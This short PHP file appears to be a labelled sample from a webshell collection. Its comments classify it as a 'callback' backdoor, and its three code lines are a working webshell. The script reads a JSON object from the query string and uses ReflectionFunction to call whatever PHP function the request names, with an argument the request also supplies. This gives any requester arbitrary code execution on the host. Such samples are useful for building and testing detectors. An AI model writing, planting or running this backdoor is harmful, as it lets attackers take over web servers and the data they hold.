<?php
// Family: webshell/callback
// Style: "door" script that takes a JSON object from the query string and turns one field into a callable
// Trait: new ReflectionFunction($p['a'])->invoke($p['b']) with $p = json_decode($_GET['p'], true): the request names the function and its argument
$p = json_decode($_GET['p'], true);
$f = new ReflectionFunction($p['a']);
echo $f->invoke($p['b']);
